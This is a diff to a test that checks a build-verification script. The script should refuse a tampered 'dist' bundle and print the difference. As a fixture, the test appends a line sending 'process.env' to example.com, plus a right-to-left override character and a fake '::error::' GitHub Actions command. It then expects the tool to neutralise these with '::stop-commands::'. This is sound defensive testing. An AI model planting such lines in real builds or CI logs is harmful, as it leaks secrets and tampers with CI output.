@@ -134,11 +134,12 @@ describe.skipIf(suite.skip)(suite.title, () => {
 
   it('is refused with a dist that its sources do not give, whose difference is shown', async () => {
     const file = join(clone.folder, 'packages/actions/dist/submit.mjs');
-    await appendFile(file, "fetch('https://example.com/?' + process.env);\n");
-    const dirty = await clone.run(DIST);
+    await appendFile(file, "fetch('https://example.com/?' + process.env);\n\u202e::error::planted\n");
+    const dirty = await clone.run(DIST, { GITHUB_ACTIONS: 'true' });
     await clone.git('checkout', '--quiet', 'packages/actions/dist');
     expect(dirty.code).toBe(1);
-    expect(dirty.output).toContain("-fetch('https://example.com/?' + process.env);");
+    expect(dirty.output).toContain("-fetch('https://example.com/?' + process.env);\n-?::error::planted\n");
+    expect(dirty.output).toMatch(/^::stop-commands::[\w-]{36}$/m);
     expect(dirty.output).toContain('packages/actions/dist is not what the sources give; the difference is above.');
   });
 
